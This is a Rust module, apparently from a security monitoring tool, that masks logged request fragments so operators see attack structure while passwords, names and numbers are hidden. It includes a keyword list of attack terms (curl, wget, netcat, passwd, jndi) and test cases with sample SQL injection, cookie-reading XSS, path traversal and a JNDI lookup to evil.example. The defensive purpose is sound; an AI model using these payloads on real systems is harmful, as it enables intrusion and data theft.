//! Masked fragments: what an operator may see of a value without seeing the value.

/// Longest masked fragment, in characters.
pub const FRAGMENT_CHARS: usize = 120;

/// Shows the structure of `fragment`: punctuation and words of attack languages stay, everything else becomes
/// `*`. At most [`FRAGMENT_CHARS`] characters.
///
/// White space becomes one space. Letters stay only as a word of a fixed vocabulary, digits only alone, so
/// that no password, name or number of the value can be read from the result.
pub fn mask(fragment: &[u8]) -> String {
    let mut output = String::new();
    let mut rest = fragment;
    let mut chars = 0;
    while let Some(first) = rest.first() {
        let length = rest.iter().take_while(|byte| Class::of(**byte) == Class::of(*first)).count();
        let length = if Class::of(*first) == Class::Mark { 1 } else { length };
        let Some((run, tail)) = rest.split_at_checked(length) else { break };
        rest = tail;
        let shown = match Class::of(*first) {
            Class::Blank => " ",
            Class::Mark => std::str::from_utf8(run).unwrap_or("*"),
            Class::Word => word(run),
        };
        chars += shown.len();
        if chars > FRAGMENT_CHARS {
            break;
        }
        output.push_str(shown);
    }
    output
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    Blank,
    Mark,
    /// Letters and digits, and all that is not ASCII or not printable.
    Word,
}

impl Class {
    fn of(byte: u8) -> Self {
        match byte {
            b' ' | b'\t' | b'\r' | b'\n' => Self::Blank,
            _ if byte.is_ascii_punctuation() => Self::Mark,
            _ => Self::Word,
        }
    }
}

fn word(run: &[u8]) -> &str {
    std::str::from_utf8(run).ok().filter(|_| is_known(run)).unwrap_or("*")
}

/// Whether a run of letters and digits says something about an attack and nothing about who was attacked.
pub(crate) fn is_known(run: &[u8]) -> bool {
    // Nothing in the vocabulary is longer, and the comparison must not copy a long value.
    run.len() <= 16
        && (matches!(run, [b'0'..=b'9'])
            || std::str::from_utf8(run)
                .is_ok_and(|text| VOCABULARY.binary_search(&text.to_ascii_lowercase().as_str()).is_ok()))
}

/// Words that tell what an attack does and nothing about who was attacked. Sorted.
#[rustfmt::skip]
const VOCABULARY: [&str; 209] = [
    "alert", "all", "alter", "and", "ascii", "assert", "atob", "base64", "bash", "benchmark", "bin", "body",
    "builtins", "case", "cast", "cat", "cdata", "char", "chmod", "chr", "class", "classloader", "cmd",
    "cmdshell", "column", "concat", "config", "constructor", "convert", "cookie", "count", "create", "curl",
    "data", "database", "declare", "decode", "delay", "delete", "div", "dns", "doctype", "document", "drop",
    "dumpfile", "echo", "element", "else", "embed", "encode", "end", "entity", "environ", "eq", "etc",
    "eval", "exec", "execute", "exists", "expect", "extractvalue", "false", "file", "filter", "form",
    "forname", "freemarker", "from", "fromcharcode", "ftp", "function", "getruntime", "git", "glob",
    "globals", "gopher", "group", "gt", "gte", "having", "hex", "href", "htaccess", "html", "htpasswd",
    "http", "https", "id", "if", "iframe", "iiop", "img", "import", "in", "include", "inf", "information",
    "input", "insert", "into", "invoke", "is", "java", "javascript", "jndi", "ldap", "ldaps", "like",
    "limit", "link", "load", "localhost", "location", "ls", "lt", "lte", "mapreduce", "marquee", "metadata",
    "mro", "netcat", "not", "nslookup", "null", "offset", "ognl", "onclick", "onerror", "onfocus", "onload",
    "onmouseover", "ontoggle", "open", "or", "order", "outfile", "passthru", "passwd", "pg", "phar", "php",
    "phpinfo", "ping", "popen", "powershell", "printf", "proc", "procedure", "processbuilder", "proto",
    "prototype", "pwd", "read", "regex", "require", "resource", "rm", "rmi", "runtime", "schema", "script",
    "select", "self", "set", "settimeout", "sh", "shadow", "shell", "sleep", "spel", "src", "stdin",
    "stream", "style", "subclasses", "subprocess", "substr", "substring", "sudo", "svg", "svn", "system",
    "system32", "table", "tcp", "then", "true", "uname", "unhex", "union", "update", "updatexml",
    "vbscript", "version", "waitfor", "wget", "when", "where", "whoami", "window", "windows", "wp",
    "wrapper", "xinclude", "xml", "xp", "xsl", "zip", "zsh",
];

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use proptest::prelude::*;

    use super::*;

    #[test]
    fn vocabulary_is_sorted_and_short() {
        assert!(VOCABULARY.is_sorted());
        assert!(
            VOCABULARY.iter().all(|word| word.len() <= 16 && !word.chars().any(|c| c.is_ascii_uppercase()))
        );
    }

    #[test]
    fn masks() {
        let cases: [(&[u8], &str); 12] = [
            (b"", ""),
            (b"1' OR 1=1 --", "1' OR 1=1 --"),
            (b"alice' UNION  SELECT\tpassword FROM users--", "*' UNION SELECT * FROM *--"),
            (b"<script>alert(document.cookie)</script>", "<script>alert(document.cookie)</script>"),
            (b"../../etc/passwd", "../../etc/passwd"),
            (b"4111 1111 1111 1111", "* * * *"),
            (b"hunter2", "*"),
            ("Müller & söhne".as_bytes(), "* & *"),
            (b"a\0b\xff", "*"),
            (b"${jndi:ldap://evil.example/x}", "${jndi:ldap://*.*/*}"),
            (b"selected unionized", "* *"),
            (b"**secret**", "*****"),
        ];
        for (input, expected) in cases {
            assert_eq!(mask(input), expected, "{:?}", String::from_utf8_lossy(input));
        }
    }

    #[test]
    fn long_values_are_cut() {
        assert_eq!(mask(&b"'".repeat(5000)).len(), FRAGMENT_CHARS);
        assert_eq!(mask(&b"x".repeat(1_000_000)), "*");
        assert!(mask(&b"select ".repeat(5000)).ends_with("select "));
    }

    proptest! {
        #[test]
        fn nothing_but_the_vocabulary_survives(
            bytes in proptest::collection::vec(any::<u8>(), 0..200),
            text in "([a-z0-9]{1,6}|select|union|[ '\"<>/=%-]){0,60}",
        ) {
            for input in [bytes.as_slice(), text.as_bytes()] {
                let masked = mask(input);
                prop_assert!(masked.chars().count() <= FRAGMENT_CHARS);
                for run in masked.split(|c: char| !c.is_ascii_alphanumeric()).filter(|run| !run.is_empty()) {
                    let lower = run.to_ascii_lowercase();
                    let digit = run.len() == 1 && run.as_bytes().first().is_some_and(u8::is_ascii_digit);
                    prop_assert!(digit || VOCABULARY.contains(&lower.as_str()), "{run}");
                }
            }
        }
    }
}
